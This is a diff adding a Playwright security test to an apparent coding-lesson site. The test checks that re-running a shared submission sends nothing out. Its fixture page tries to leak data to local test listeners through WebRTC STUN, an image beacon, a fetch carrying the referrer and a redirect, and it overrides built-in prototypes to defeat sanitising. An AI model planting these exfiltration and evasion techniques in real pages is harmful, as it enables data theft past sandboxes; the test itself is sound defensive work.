@@ -1,5 +1,7 @@
 import { readFile } from "node:fs/promises";
 import type { Browser, Locator, Page } from "@playwright/test";
+import type { DayDetail, DayExercise } from "#contract/days.ts";
+import { openListeners } from "../runners/testing/listeners.ts";
 import { expectAccessible, expectNoOverflow } from "./accessibility.ts";
 import { almostDone, graduate, pass, show } from "./certificate.ts";
 import { expect, ONCE, test, visit } from "./kadam-test.ts";
@@ -130,6 +132,69 @@ test("code that fails is shown to fail, and what changed since is said", ONCE, a
   );
   await expectWellMade(page);
 });
+
+test(
+  "a submission that tries to get out is run again, and nothing is sent anywhere",
+  ONCE,
+  async ({ page, errorLog }) => {
+    // The browser says on its console what it refused.
+    errorLog.expect(/Content Security Policy|Connection-Allowlist|Blocked|Refused|ERR_/i);
+    const { certificate, exercise } = await graduate(page.request);
+    await show(page.request, certificate, { isPublic: true, sharesCode: true });
+    const listeners = await openListeners();
+    const files = [{ path: "index.html", text: leavingPage(listeners.ports) }];
+    // As if the exercise had been about a page, and this page had once passed.
+    await page.route("**/submissions", async (route) => {
+      const reply = await route.fetch();
+      const { submissions } = await reply.json();
+      const changed = submissions.map((kept: object) => ({ ...kept, files }));
+      await route.fulfill({ response: reply, json: { submissions: changed } });
+    });
+    await page.route("**/lessons/**/*.json", async (route) => {
+      const reply = await route.fetch();
+      const found: DayDetail = await reply.json();
+      const code = "await new Promise((r) => setTimeout(r, 1500));";
+      const tests = [{ id: "t", name: "It waits", says: "says", code }];
+      const asPage = (each: DayExercise) =>
+        each.id === exercise.id
+          ? { ...each, kind: "web", entry: "index.html", files, tests, mutants: [], setup: "" }
+          : each;
+      const lesson = found.lesson && { ...found.lesson, exercises: found.lesson.exercises.map(asPage) };
+      await route.fulfill({ response: reply, json: { ...found, lesson } });
+    });
+    await visit(page, `/verify/${certificate.id}`);
+    await expect(page.getByText("Nothing is sent anywhere.")).toBeVisible();
+    const proof = row(page, exercise.title);
+    await proof.getByRole("button", { expanded: false }).click();
+    await proof.getByRole("button", { name: /^Run again/ }).click();
+    // What the page breaks for itself may fail its test; that it ran is what counts.
+    await expect(proof.getByRole("status")).toHaveText(/^(Passes again|Does not pass now|The code)/, {
+      timeout: 30_000,
+    });
+    // What was shown stays on the page and may go on trying.
+    await page.waitForTimeout(3000);
+    expect(listeners.takeHeard()).toEqual([]);
+    listeners.close();
+  },
+);
+
+function leavingPage({ udp, http }: { readonly udp: number; readonly http: number }): string {
+  const connect = `const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${udp}" }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o));`;
+  const framed = `<iframe srcdoc="${`<script>${connect}</script>`.replaceAll('"', "&quot;")}"></iframe>`;
+  return `<!doctype html><html lang="en"><head><title>x</title></head><body>${framed}<img alt="" src="http://127.0.0.1:${http}/image"><script>
+Element.prototype.remove = () => {};
+Document.prototype.querySelectorAll = () => [];
+Set.prototype[Symbol.iterator] = function* () {};
+const framed = ${JSON.stringify(framed).replaceAll("</", "<\\/")};
+const host = document.createElement("div");
+host.attachShadow({ mode: "open", clonable: true }).innerHTML = framed;
+document.body.append(host.cloneNode(true));
+document.body.insertAdjacentHTML("beforeend", framed);
+fetch("http://127.0.0.1:${http}/fetch?" + document.referrer).catch(() => {});
+try { ${connect} } catch {}
+setTimeout(() => { location.href = "http://127.0.0.1:${http}/away"; }, 3000);
+</script></body></html>`;
+}
 
 test("code that cannot be loaded can be asked for again", ONCE, async ({ page, errorLog }) => {
   errorLog.expect(/had no answer/);
